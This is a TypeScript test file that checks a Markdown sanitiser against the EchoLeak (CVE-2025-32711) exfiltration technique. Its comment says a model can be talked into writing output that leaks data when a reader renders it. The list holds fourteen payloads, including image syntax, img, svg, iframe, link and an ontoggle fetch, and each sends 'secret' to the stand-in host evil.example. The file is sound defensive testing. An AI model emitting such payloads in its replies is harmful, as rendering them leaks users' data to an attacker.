import { describe, expect, test } from "vitest";
import { safeMarkdown } from "../../../gateway/formats/markdown-text.ts";

// What a model may be talked into writing so that whoever reads the transcript sends something to a stranger. An image is loaded by
// rendering alone; a link is not.
const loading = [
  "![x](https://evil.example/?q=secret)",
  "![x][ref]\n\n[ref]: https://evil.example/?q=secret",
  "![ref]\n\n[ref]: https://evil.example/?q=secret",
  "[![x](https://evil.example/?q=secret)](https://evil.example/)",
  "\\![x](https://evil.example/?q=secret)",
  "\\\\![x](https://evil.example/?q=secret)",
  "> - ![x](https://evil.example/?q=secret)",
  "| a |\n|---|\n| ![x](https://evil.example/?q=secret) |",
  '<img src="https://evil.example/?q=secret">',
  "<IMG\nsrc=https://evil.example/?q=secret>",
  '<svg><image href="https://evil.example/?q=secret"/></svg>',
  "<link rel=stylesheet href=https://evil.example/>",
  "<iframe src=https://evil.example/></iframe>",
  '<details open ontoggle="fetch(`https://evil.example`)">',
];

describe("EchoLeak (CVE-2025-32711)", () => {
  test.each(loading)("a transcript's Markdown loads nothing by being rendered: %j", (text) => {
    const safe = safeMarkdown(text);
    // An image begins with these two characters and nothing between them; HTML with a `<`.
    expect(safe).not.toContain("![");
    expect(safe).not.toMatch(/<[a-z]/i);
    expect(safe).toContain("evil.example");
  });
});
